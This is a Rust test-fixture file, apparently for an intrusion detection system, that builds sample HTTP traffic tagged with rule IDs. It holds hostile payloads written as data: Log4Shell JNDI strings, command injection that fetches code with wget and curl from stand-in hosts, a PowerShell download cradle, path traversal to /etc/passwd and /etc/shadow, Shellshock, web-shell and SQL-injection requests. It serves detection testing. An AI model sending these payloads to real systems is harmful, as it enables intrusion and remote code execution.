// SPDX-License-Identifier: GPL-2.0-or-later
//! HTTP: responses, downloads, and attacks in requests.

use super::{Home, Outside, Talk, tcp};
use crate::support::protocols::{get, page, post, request, response};

pub(super) fn responses() -> Vec<Talk> {
    let back = |name, sid, kind, body: &[u8]| tcp(name, &[sid], Home, 80, page(kind, body));
    let mut program = vec![0; 400];
    program[..2].copy_from_slice(b"MZ");
    program[128..132].copy_from_slice(b"PE\0\0");
    let mut elf = b"\x7fELF".to_vec();
    elf.resize(300, 0);
    let eicar = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}", "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"];
    let more = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/b')";
    vec![
        back("root", 8_100_001, "text/html", b"uid=0(root) gid=0(root) groups=0(root)\n"),
        back("www-data", 8_100_002, "text/html", b"uid=33(www-data) gid=33(www-data) groups=33(w)"),
        back(
            "passwd",
            8_100_003,
            "text/plain",
            b"root:x:0:0:root:/root:/bin/ash\ndaemon:*:1:1:daemon:/var:/bin/false\n",
        ),
        back("eicar", 8_100_004, "application/zip", eicar.concat().as_bytes()),
        back("PE as image", 8_100_005, "image/png", &program),
        back("ELF as image", 8_100_006, "IMAGE/jpeg", &elf),
        back("cradle", 8_100_007, "text/plain", more.as_bytes()),
        tcp(
            "root on another port, from home to home's own server, long",
            &[8_100_001],
            Outside,
            8081,
            vec![
                (Outside, get("/", "")),
                (
                    Home,
                    response(
                        "200 OK",
                        "text/html",
                        &[&[b'x'; 3000], b"uid=0(root)".as_slice()].concat(),
                    ),
                ),
            ],
        ),
    ]
}

pub(super) fn fetches() -> Vec<Talk> {
    let from = |uri: &str, host: &str, agent: &str| {
        let text = format!("GET {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n\r\n");
        request(Home, text.into_bytes())
    };
    vec![
        tcp("script", &[8_100_008], Home, 80, from("/a.sh", "203.0.113.9", "Wget/1.21")),
        tcp("loader", &[8_100_009], Home, 80, from("/bins/x.mpsl", "203.0.113.9", "-")),
        tcp("script with a name", &[], Home, 80, from("/a.sh", "get.example", "curl/8")),
    ]
}

pub(super) fn requests() -> Vec<Talk> {
    let asked = |name, sid, bytes: Vec<u8>| tcp(name, &[sid], Outside, 80, request(Outside, bytes));
    vec![
        asked("log4shell in URL", 8_100_010, get("/?x=$%7Bjndi:ldap://e.example/a%7D", "")),
        asked("log4shell in header", 8_100_011, get("/", "X-Api: ${jndi:ldap://e.example/a}\r\n")),
        asked("log4shell in body", 8_100_012, post("/", "user=${jndi:rmi://e.example/a}")),
        asked("in disguise", 8_100_013, get("/", "X-Api: ${${lower:j}ndi:dns://e/a}\r\n")),
        asked("in disguise 2", 8_100_013, get("/", "X-Api: ${a${::-j}ndi:dns://e/a}\r\n")),
        asked("traversal", 8_100_014, get("/../../../etc/passwd", "")),
        asked("traversal in query", 8_100_014, get("/?f=..%2f..%2fetc/shadow", "")),
        asked("command in URL", 8_100_015, get("/ping?h=1;wget%20http://e.example/x", "")),
        asked("with IFS", 8_100_015, get("/ping?h=$(curl${IFS}http://e.example/x)", "")),
        asked("command in body", 8_100_016, post("/ping", "h=1%3Bwget+http%3A%2F%2Fe.example")),
        asked("command in cgi", 8_100_017, get("/cgi-bin/luci/;/bin/sh", "")),
        asked("shellshock", 8_100_018, get("/", "X-Agent: () { :; }; /bin/id\r\n")),
        asked("web shell", 8_100_019, get("/up/x.php?cmd=id", "")),
        asked("web shell, file", 8_100_019, get("/x.php?a=1&cmd=cat+/etc/hosts", "")),
        asked("phpunit", 8_100_020, get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "")),
        asked("setup.cgi", 8_100_021, get("/setup.cgi?next_file=x.cfg&todo=syscmd&cmd=reboot", "")),
        asked("recorder", 8_100_022, get("/shell?cd+/tmp", "")),
        asked("access point", 8_100_023, get("/GponForm/diag_Form?images/", "")),
        asked("SQL", 8_100_024, get("/?id=1%20UNION%20ALL%20SELECT%20null", "")),
        asked("SQL in comments", 8_100_024, get("/?id=1+union/**/select+null", "")),
        asked("scanner", 8_100_025, get("/", "User-Agent: sqlmap/1.8\r\n")),
    ]
}
